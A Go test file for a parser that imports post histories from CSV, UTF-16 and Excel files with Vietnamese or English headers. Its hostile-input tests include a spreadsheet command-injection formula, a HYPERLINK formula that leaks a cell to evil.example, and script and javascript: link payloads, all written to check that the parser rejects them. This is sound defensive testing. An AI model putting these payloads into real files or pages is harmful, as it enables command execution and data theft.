package importer

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"gatekeeper/internal/messages"
	"gatekeeper/internal/posting"
	"gatekeeper/internal/store"
	"gatekeeper/internal/testsupport"
	"gatekeeper/policy"
)

var loc = store.DefaultLocation()

func testNow(t *testing.T) time.Time {
	return testsupport.Now(t, time.Date(2026, 11, 20, 3, 0, 0, 0, time.UTC))
}

// day is now's calendar day in loc, minus n days, at hh:mm.
func day(now time.Time, n, hh, mm int) time.Time {
	l := now.In(loc)
	return time.Date(l.Year(), l.Month(), l.Day()-n, hh, mm, 0, 0, loc)
}

func parse(t *testing.T, data []byte, name string, lim Limits) *File {
	t.Helper()
	f, err := Parse(bytes.NewReader(data), name, loc, lim)
	if err != nil {
		t.Fatalf("Parse(%s): %v", name, err)
	}
	return f
}

// TestParseVietnameseCSV: a BOM, ";" separators, Vietnamese headers in any
// case and order, a quoted cell over several lines (the next row's line
// number counts them), every date form, the tone words, and a link listed
// twice.
func TestParseVietnameseCSV(t *testing.T) {
	now := testNow(t)
	d1, d2, d3 := day(now, 3, 8, 30), day(now, 2, 0, 0), day(now, 1, 14, 5)
	var b strings.Builder
	b.WriteString("\ufeffNGÀY ĐĂNG;Nội dung;Liên kết;Sắc thái;Lượt thích\r\n")
	fmt.Fprintf(&b, "%s;\"Lễ hội mùa xuân\nxã Đắk Pék; vui tươi\";https://www.facebook.com/dakglei/posts/1?fbclid=x;Tích cực;120\r\n", d1.Format("02/01/2006 15:04"))
	fmt.Fprintf(&b, "%s;Tai nạn giao thông trên quốc lộ 14;https://zalo.me/s/42/?zarsrc=30;tiêu cực;\r\n", d2.Format("2006-01-02"))
	b.WriteString(";;;;\r\n") // an empty row is skipped
	fmt.Fprintf(&b, "%s;Họp dân bàn kế hoạch;https://youtu.be/abcdEFG1234?si=q;;3\r\n", d3.Format(time.RFC3339))
	fmt.Fprintf(&b, "%s;Lễ hội (chia sẻ lại);facebook.com/dakglei/posts/1/;;\r\n", d1.Format("2/1/2006"))
	f := parse(t, []byte(b.String()), "lich-su.csv", Limits{Now: now})
	if len(f.Errors) != 0 {
		t.Fatalf("errors: %+v", f.Errors)
	}
	if len(f.Rows) != 4 || f.Posts() != 3 {
		t.Fatalf("%d rows, %d posts: %+v", len(f.Rows), f.Posts(), f.Rows)
	}
	r := f.Rows
	wantLines := []int{2, 4, 6, 7}
	for i, w := range wantLines {
		if r[i].Line != w {
			t.Errorf("row %d: line %d, want %d", i, r[i].Line, w)
		}
	}
	if !r[0].At.Equal(d1) || !r[1].At.Equal(d2) || !r[2].At.Equal(d3) || !r[3].At.Equal(day(now, 3, 0, 0)) {
		t.Errorf("dates: %v %v %v %v", r[0].At, r[1].At, r[2].At, r[3].At)
	}
	if r[0].Text != "Lễ hội mùa xuân\nxã Đắk Pék; vui tươi" || r[0].Tone != policy.Positive || r[1].Tone != policy.Negative || r[2].Tone != "" {
		t.Errorf("cells: %+v", r[:3])
	}
	id, _ := posting.PostID("https://facebook.com/dakglei/posts/1", "")
	if r[0].ID != id || r[3].ID != id || r[3].DuplicateOf != 2 || r[0].DuplicateOf != 0 {
		t.Errorf("the same link twice: %+v / %+v", r[0], r[3])
	}
	if !f.From.Equal(day(now, 3, 0, 0)) || !f.To.Equal(day(now, 0, 0, 0)) {
		t.Errorf("range [%v, %v)", f.From, f.To)
	}
}

// TestParseEnglishCSV: English headers, "," separators, an id column, a
// title, an Excel serial date in a CSV, and a tab-separated UTF-16 export.
func TestParseEnglishCSV(t *testing.T) {
	now := testNow(t)
	d5 := day(now, 5, 12, 0)
	serial := time.Date(d5.Year(), d5.Month(), d5.Day(), 12, 0, 0, 0, time.UTC).Sub(time.Date(1899, 12, 30, 0, 0, 0, 0, time.UTC)).Hours() / 24
	csv := fmt.Sprintf("Date,Title,Text,Link,Tone,ID\n%.6f,Flood warning,Heavy rain expected,,negative,vtv-001\n%s,,Market day,https://example.gov.vn/cho?utm_source=fb,Neutral,\n",
		serial, day(now, 4, 9, 0).Format("2006-01-02 15:04"))
	f := parse(t, []byte(csv), "history.csv", Limits{Now: now})
	if len(f.Errors) != 0 || len(f.Rows) != 2 {
		t.Fatalf("rows %+v errors %+v", f.Rows, f.Errors)
	}
	if !f.Rows[0].At.Equal(day(now, 5, 12, 0)) || f.Rows[0].ID != "vtv-001" || f.Rows[0].Title != "Flood warning" {
		t.Errorf("row 1: %+v (want %v)", f.Rows[0], day(now, 5, 12, 0))
	}
	if !strings.HasPrefix(f.Rows[1].ID, posting.LinkIDPrefix) || f.Rows[1].Tone != policy.Neutral {
		t.Errorf("row 2: %+v", f.Rows[1])
	}

	// A time of its own column; a bad one is refused at its field.
	csv = "Ngày đăng,Giờ đăng,Nội dung,Liên kết\n" + day(now, 2, 0, 0).Format("02/01/2006") + ",07:45,Họp dân,https://a.vn/1\n" +
		day(now, 2, 0, 0).Format("02/01/2006") + ",0.75,Họp dân,https://a.vn/2\n" + day(now, 2, 0, 0).Format("02/01/2006") + ",25:99,x,https://a.vn/3\n"
	f = parse(t, []byte(csv), "gio.csv", Limits{Now: now})
	if len(f.Rows) != 2 || !f.Rows[0].At.Equal(day(now, 2, 7, 45)) || !f.Rows[1].At.Equal(day(now, 2, 18, 0)) ||
		len(f.Errors) != 1 || f.Errors[0].Field != "time" || f.Errors[0].Line != 4 {
		t.Fatalf("a time column: %+v %+v", f.Rows, f.Errors)
	}

	// Excel's "Unicode text": UTF-16LE with a BOM, tab-separated.
	tsv := "Ngày\tNội dung\tLiên kết\r\n" + day(now, 1, 7, 0).Format("02/01/2006 15:04") + "\tChào mừng\thttps://zalo.me/s/9\r\n"
	var u16 []byte
	u16 = append(u16, 0xff, 0xfe)
	for _, r := range tsv {
		u16 = append(u16, byte(r), byte(r>>8)) // BMP only
	}
	f = parse(t, u16, "export.txt", Limits{Now: now})
	if len(f.Errors) != 0 || len(f.Rows) != 1 || f.Rows[0].Text != "Chào mừng" {
		t.Fatalf("UTF-16: %+v %+v", f.Rows, f.Errors)
	}
}

// TestParseXLSX: a workbook with a title row above the header, a real date
// cell (a serial with a date format), a text date, and a row error on the
// sheet's own row number.
func TestParseXLSX(t *testing.T) {
	now := testNow(t)
	x := excelize.NewFile()
	sh := x.GetSheetName(0)
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(x.SetSheetRow(sh, "A1", &[]any{"Nhật ký đăng bài của Trang UBND xã"}))
	must(x.SetSheetRow(sh, "A3", &[]any{"Ngày", "Tiêu đề", "Nội dung", "Liên kết", "Sắc thái"}))
	must(x.SetSheetRow(sh, "A4", &[]any{day(now, 2, 10, 30), "", "Khánh thành trường học", "https://www.tiktok.com/@xa/video/1?lang=vi", "tích cực"}))
	must(x.SetSheetRow(sh, "A5", &[]any{day(now, 1, 0, 0).Format("02/01/2006"), "Thông báo", "Lịch cắt điện", "https://xa.gov.vn/tb/1", ""}))
	must(x.SetSheetRow(sh, "A6", &[]any{"hôm qua", "", "Bài lỗi", "javascript:alert(1)", "buồn"}))
	style, err := x.NewStyle(&excelize.Style{NumFmt: 22}) // m/d/yy h:mm
	must(err)
	must(x.SetCellStyle(sh, "A4", "A4", style))
	var buf bytes.Buffer
	must(x.Write(&buf))

	f := parse(t, buf.Bytes(), "nhatky.xlsx", Limits{Now: now})
	if len(f.Rows) != 2 {
		t.Fatalf("rows: %+v errors %+v", f.Rows, f.Errors)
	}
	if f.Rows[0].Line != 4 || !f.Rows[0].At.Equal(day(now, 2, 10, 30)) || f.Rows[0].Tone != policy.Positive {
		t.Errorf("row 4: %+v", f.Rows[0])
	}
	if f.Rows[1].Line != 5 || !f.Rows[1].At.Equal(day(now, 1, 0, 0)) || f.Rows[1].Title != "Thông báo" {
		t.Errorf("row 5: %+v", f.Rows[1])
	}
	want := map[string]string{"date": "date", "tone": "tone", "link": "link_scheme"}
	if len(f.Errors) != len(want) {
		t.Fatalf("errors: %+v", f.Errors)
	}
	for _, e := range f.Errors {
		if e.Line != 6 || want[e.Field] != e.Code || e.VI == "" || e.EN == "" || e.VI == e.EN {
			t.Errorf("error %+v", e)
		}
	}
}

// TestHostileInput: every hostile cell gives a worded row error (or is kept
// as inert text), every hostile file a worded file error; nothing panics.
func TestHostileInput(t *testing.T) {
	now := testNow(t)
	d := day(now, 1, 9, 0).Format("02/01/2006")
	head := "ngày,nội dung,liên kết\n"
	rows := []struct {
		row, field, code string
	}{
		{d + ",=cmd|' /C calc'!A0,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"", "link", "link_host"},
		{d + ",<script>alert(1)</script>,javascript:alert(1)", "link", "link_scheme"},
		{d + "," + strings.Repeat("a", 101) + ",https://a.vn/1", "text", "cell_long"},
		{d + ",a\x00b,https://a.vn/2", "text", "cell_nul"},
		{d + ",,https://a.vn/3", "text", "no_text"},
		{"31/02/2026,x,https://a.vn/4", "date", "date"},
		{day(now, -2, 9, 0).Format("02/01/2006") + ",x,https://a.vn/5", "date", "future"},
		{"99999,x,https://a.vn/6", "date", "date"},
		{d + ",x,", "link", "missing"},
	}
	var b strings.Builder
	b.WriteString(head)
	for _, r := range rows {
		b.WriteString(r.row + "\n")
	}
	b.WriteString(d + ",\"=SUM(A1:A2)\x07 <b>đậm</b>\",https://a.vn/ok\n")
	f := parse(t, []byte(b.String()), "x.csv", Limits{Cell: 100, Now: now})
	if len(f.Errors) != len(rows) {
		t.Fatalf("%d errors, want %d: %+v", len(f.Errors), len(rows), f.Errors)
	}
	for i, e := range f.Errors {
		if e.Line != i+2 || e.Field != rows[i].field || e.Code != rows[i].code {
			t.Errorf("row %q: %+v, want line %d %s %s", rows[i].row, e, i+2, rows[i].field, rows[i].code)
		}
		if !strings.Contains(e.In(messages.VI), fmt.Sprintf("dòng %d", i+2)) || !strings.Contains(e.In(messages.EN), fmt.Sprintf("line %d", i+2)) {
			t.Errorf("messages %q / %q", e.In(messages.VI), e.In(messages.EN))
		}
	}
	// A formula and HTML are text: kept (a bell character dropped), never evaluated.
	if len(f.Rows) != 1 || f.Rows[0].Text != "=SUM(A1:A2) <b>đậm</b>" {
		t.Fatalf("rows %+v", f.Rows)
	}

	for _, tc := range []struct {
		name string
		data []byte
		lim  Limits
		code string
	}{
		{"big.csv", []byte(head + strings.Repeat(d+",x,https://a.vn/1\n", 100)), Limits{Bytes: 1000}, "too_large"},
		{"many.csv", []byte(head + strings.Repeat(d+",x,https://a.vn/1\n", 11)), Limits{Rows: 10}, "too_many"},
		{"cp1258.csv", []byte("ng\xe0y,n\xf4i dung,li\xean k\xeat\n"), Limits{}, "encoding"},
		{"quote.csv", []byte(head + d + ",\"unclosed,https://a.vn\n"), Limits{}, "csv"},
		{"nohead.csv", []byte("a,b,c\n1,2,3\n"), Limits{}, "column"},
		{"twice.csv", []byte("date,text,link,Ngày\n"), Limits{}, "column_twice"},
		{"empty.csv", []byte(""), Limits{}, "empty"},
		{"onlyhead.csv", []byte(head), Limits{}, "no_rows"},
		{"fake.xlsx", []byte("PK\x03\x04not a zip"), Limits{}, "xlsx"},
	} {
		_, err := Parse(bytes.NewReader(tc.data), tc.name, loc, tc.lim)
		var re *RowError
		if !errors.As(err, &re) || re.Code != tc.code || re.VI == "" || re.EN == "" {
			t.Errorf("%s: %v, want code %s", tc.name, err, tc.code)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte("ngày;nội dung;liên kết\n01/02/2026;\"a\nb\";https://a.vn\n"))
	f.Add([]byte("date,text,link\n46000.5,x,facebook.com/a\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		file, err := Parse(bytes.NewReader(data), "f.csv", loc, Limits{Rows: 50, Cell: 200})
		if err != nil {
			var re *RowError
			if !errors.As(err, &re) {
				t.Fatalf("unworded error %v", err)
			}
			return
		}
		for _, r := range file.Rows {
			if !posting.ValidID(r.ID) || r.At.IsZero() || r.At.Before(file.From) || !r.At.Before(file.To) {
				t.Fatalf("row %+v outside [%v, %v)", r, file.From, file.To)
			}
		}
	})
}

// TestLinkWithID: a file with an id column still has its links read as
// links: one that is not (javascript:, spaces) is refused at its line, as
// it is without an id, never kept to be shown; a bad id is said at the id.
func TestLinkWithID(t *testing.T) {
	now := testNow(t)
	d := day(now, 1, 9, 0).Format("02/01/2006")
	data := "ngày,nội dung,liên kết,mã bài\n" +
		d + ",Tin một,javascript:alert(1),fb-1\n" +
		d + ",Tin hai,https://a.vn/x y,fb-2\n" +
		d + ",Tin ba,https://a.vn/3,bài 3\n" +
		d + ",Tin bốn,facebook.com/p/4,fb-4\n"
	f := parse(t, []byte(data), "id.csv", Limits{Now: now})
	want := []struct{ field, code string }{{"link", "link_scheme"}, {"link", "link_control"}, {"id", "id"}}
	if len(f.Errors) != len(want) {
		t.Fatalf("errors %+v, want %d", f.Errors, len(want))
	}
	for i, w := range want {
		if e := f.Errors[i]; e.Line != i+2 || e.Field != w.field || e.Code != w.code {
			t.Errorf("line %d: %+v, want %s %s", i+2, e, w.field, w.code)
		}
	}
	if len(f.Rows) != 1 || f.Rows[0].ID != "fb-4" || f.Rows[0].Link != "facebook.com/p/4" {
		t.Fatalf("rows %+v", f.Rows)
	}
	f.Errors = append(f.Errors, RowError{Line: 2, Field: "tone", Code: "tone"}) // a second error of line 2
	if n := f.RowsRead(); n != 4 {
		t.Errorf("RowsRead %d, want 4 (a row with two errors is one row)", n)
	}
}

// TestFutureSlack: a row dated up to FutureSlack after now is taken (the
// office's clock may run ahead), one a minute past it is refused: the same
// bound for the console, the API and the command line.
func TestFutureSlack(t *testing.T) {
	now := testNow(t).Truncate(time.Minute)
	at := func(d time.Duration) string { return now.Add(d).In(loc).Format("2006-01-02 15:04") }
	data := "date,text,link\n" +
		at(FutureSlack) + ",Tin một,https://a.vn/1\n" +
		at(FutureSlack+time.Minute) + ",Tin hai,https://a.vn/2\n"
	f := parse(t, []byte(data), "future.csv", Limits{Now: now})
	if len(f.Rows) != 1 || f.Rows[0].Line != 2 || len(f.Errors) != 1 || f.Errors[0].Line != 3 || f.Errors[0].Code != "future" {
		t.Fatalf("rows %+v errors %+v", f.Rows, f.Errors)
	}
	// The file's last day is the row's day, in the outlet's zone.
	if got, want := f.LastDay().In(loc).Format(time.DateOnly), f.Rows[0].At.In(loc).Format(time.DateOnly); got != want {
		t.Errorf("LastDay %s, want %s", got, want)
	}
}

// TestIsXLSX: a workbook by its signature or its name; everything else is
// CSV (the command line names the media type by the same rule).
func TestIsXLSX(t *testing.T) {
	for _, tc := range []struct {
		name string
		data string
		want bool
	}{
		{"lich-su.xlsx", "", true},
		{"LICH-SU.XLSX", "a,b", true},
		{"-", "PK\x03\x04rest", true},
		{"lich-su.csv", "PK\x03\x04rest", true},
		{"lich-su.csv", "ngày,nội dung", false},
		{"-", "PK", false},
	} {
		if got := IsXLSX(tc.name, []byte(tc.data)); got != tc.want {
			t.Errorf("IsXLSX(%q, %q) = %v", tc.name, tc.data, got)
		}
	}
}
